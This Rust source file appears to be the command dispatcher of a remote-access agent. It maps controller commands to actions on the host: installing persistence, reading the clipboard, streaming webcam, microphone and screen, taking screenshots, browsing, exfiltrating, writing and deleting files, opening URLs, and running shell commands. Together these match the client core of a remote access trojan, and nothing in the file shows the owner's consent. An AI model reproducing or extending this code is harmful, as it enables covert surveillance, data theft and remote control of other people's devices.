//! Command dispatcher: read, decode, dispatch, encode, write.

use std::{path::Path, sync::Arc, time::Duration};

use async_trait::async_trait;
use bytes::Bytes;
use remote_agent_core::{Capabilities, CapabilityError, Command, Frame, Quality, StreamKind};
use remote_agent_transport::ConnectionManager;
use tokio_util::sync::CancellationToken;

use crate::registry::{StopOutcome, StreamError, StreamProducer, StreamRegistry};

/// Turns controller frames into capability calls.
pub struct CommandDispatcher {
    client_id: String,
    capabilities: Capabilities,
    streams: Arc<StreamRegistry>,
}

impl CommandDispatcher {
    /// Create a dispatcher.
    #[must_use]
    pub fn new(
        client_id: impl Into<String>,
        capabilities: Capabilities,
        streams: Arc<StreamRegistry>,
    ) -> Self {
        Self {
            client_id: client_id.into(),
            capabilities,
            streams,
        }
    }

    /// Run the control loop until `shutdown` fires.
    ///
    /// Reconnects whenever the connection is down. Malformed messages get no
    /// reply; a failed reply write is logged and the next read notices the
    /// lost connection.
    pub async fn run(&self, connection: &mut ConnectionManager, shutdown: &CancellationToken) {
        let outbound = connection.outbound();
        loop {
            if !connection.is_connected() {
                tokio::select! {
                    () = shutdown.cancelled() => break,
                    () = connection.connect() => {}
                }
                continue;
            }

            let message = tokio::select! {
                () = shutdown.cancelled() => break,
                message = connection.read() => message,
            };
            // Read errors are logged by the manager, which is now disconnected.
            let Ok(raw) = message else { continue };

            let Some(reply) = self.handle_message(&raw).await else {
                continue;
            };
            if let Err(e) = outbound.send(reply).await {
                tracing::warn!(error = %e, "Failed to send response");
            }
        }
        tracing::info!("Command dispatcher stopped");
    }

    /// Decode and handle one raw message.
    ///
    /// Returns `None` for anything that is not a well-formed request.
    pub async fn handle_message(&self, raw: &[u8]) -> Option<Frame> {
        match Frame::decode_request(raw) {
            Ok(request) => Some(self.handle(request).await),
            Err(e) => {
                tracing::debug!(error = %e, len = raw.len(), "Discarding malformed frame");
                None
            }
        }
    }

    /// Handle a decoded request and build the reply frame.
    pub async fn handle(&self, request: Frame) -> Frame {
        let Frame {
            command,
            parameter,
            response: body,
            ..
        } = request;
        let command = Command::parse(&command);
        tracing::debug!(command = command.label(), %parameter, "Handling command");

        match self.execute(command, &parameter, body).await {
            Ok(payload) => Frame::response(self.client_id.clone(), payload),
            Err(e) => {
                tracing::warn!(error = %e, "Command failed");
                Frame::error(self.client_id.clone(), e.to_string())
            }
        }
    }

    async fn execute(
        &self,
        command: Command,
        parameter: &str,
        body: Bytes,
    ) -> Result<Bytes, CapabilityError> {
        let caps = &self.capabilities;
        match command {
            Command::DeviceInfo => {
                let mut specs = caps.device.device_specs().await?;
                specs.client_id.clone_from(&self.client_id);
                to_json(&specs, true)
            }
            Command::CaptureScreenshot => caps.screen.capture(Quality::MAX).await,
            Command::Power(action) => caps.power.power(action).await.map(|()| Bytes::new()),
            Command::InstallPersistence => caps.persistence.install().await.map(|()| Bytes::new()),
            Command::ReadClipboard => caps.clipboard.read_text().await.map(Bytes::from),
            Command::StartStream(kind) => Ok(self.start_stream(kind, parameter).await),
            Command::StopStream => Ok(self.stop_stream(parameter).await),
            Command::ExploreDirectory => {
                let listing = caps.filesystem.explore(Path::new(parameter)).await?;
                to_json(&listing, false)
            }
            Command::Download => caps.filesystem.read_file(Path::new(parameter)).await,
            Command::Upload => caps
                .filesystem
                .write_file(Path::new(parameter), body)
                .await
                .map(|()| Bytes::new()),
            Command::DeleteFile => caps
                .filesystem
                .delete(Path::new(parameter))
                .await
                .map(|()| Bytes::new()),
            Command::OpenUrl => caps.url_opener.open_url(parameter).await.map(|()| Bytes::new()),
            Command::Shell(line) => caps.terminal.run(&line).await,
        }
    }

    async fn start_stream(&self, kind: StreamKind, parameter: &str) -> Bytes {
        let quality = Quality::parse_or_default(parameter);
        let producer = Arc::new(CaptureProducer {
            capabilities: self.capabilities.clone(),
            kind,
            quality,
        });
        match self.streams.start(kind.name(), kind.interval(), producer).await {
            Ok(()) => {
                tracing::info!(stream = %kind, quality = quality.get(), "Starting stream");
                Bytes::from(format!("{kind} streaming started"))
            }
            Err(StreamError::AlreadyActive(_)) => Bytes::from(format!("{kind} streaming already active")),
        }
    }

    async fn stop_stream(&self, name: &str) -> Bytes {
        let name: &str = StreamKind::from_name(name).map_or(name, |kind| kind.name());
        match self.streams.stop(name).await {
            StopOutcome::Stopped => Bytes::from(format!("{name} streaming stopped")),
            StopOutcome::NotFound => Bytes::from(format!("No active stream for {name}")),
        }
    }
}

fn to_json<T: serde::Serialize>(value: &T, pretty: bool) -> Result<Bytes, CapabilityError> {
    let encoded = if pretty {
        serde_json::to_vec_pretty(value)
    } else {
        serde_json::to_vec(value)
    };
    encoded
        .map(Bytes::from)
        .map_err(|e| CapabilityError::Failed(e.to_string()))
}

/// Stream producer calling the capture capability of one stream kind.
struct CaptureProducer {
    capabilities: Capabilities,
    kind: StreamKind,
    quality: Quality,
}

/// Length of one audio batch.
const AUDIO_BATCH: Duration = Duration::from_secs(1);

#[async_trait]
impl StreamProducer for CaptureProducer {
    async fn produce(&self) -> Result<Bytes, CapabilityError> {
        match self.kind {
            StreamKind::Webcam => self.capabilities.webcam.capture(self.quality).await,
            StreamKind::Screen => self.capabilities.screen.capture(self.quality).await,
            StreamKind::Microphone => {
                self.capabilities
                    .microphone
                    .capture(AUDIO_BATCH, self.quality)
                    .await
            }
        }
    }
}
